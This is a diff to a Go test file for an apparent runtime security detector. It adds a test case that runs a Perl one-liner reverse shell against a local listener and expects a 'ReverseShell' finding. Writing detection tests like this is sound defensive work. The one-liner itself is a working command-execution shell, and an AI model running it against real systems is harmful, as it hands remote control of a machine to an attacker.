@@ -62,6 +62,18 @@ func scenarios(malware string) []scenario {
 			wants: []want{{Type: "Execution:Runtime/ReverseShell", Exe: []string{"/ash"}}},
 		},
 		{
+			name: "command-loop reverse shell: perl -e reads commands from a socket and runs them in backticks",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				// A plain command: perl runs it without a shell.
+				addr, out := tcpListener(t, "id\n")
+				run(t, "perl", "-e", fmt.Sprintf(`use IO::Socket::INET; $c = IO::Socket::INET->new("%s") or die; while (<$c>) { print $c `+"`$_`"+`; shutdown($c, 1); }`, addr))
+				if got := <-out; !strings.Contains(got, "uid=") {
+					t.Logf("reverse shell output: %q", got)
+				}
+			},
+			wants: []want{{Type: "Execution:Runtime/ReverseShell", Exe: []string{"/id"}}},
+		},
+		{
 			name:      "failed mount of /etc onto /tmp inside a container",
 			container: true,
 			run: func(t *testing.T, e *env, c *containerRun) {
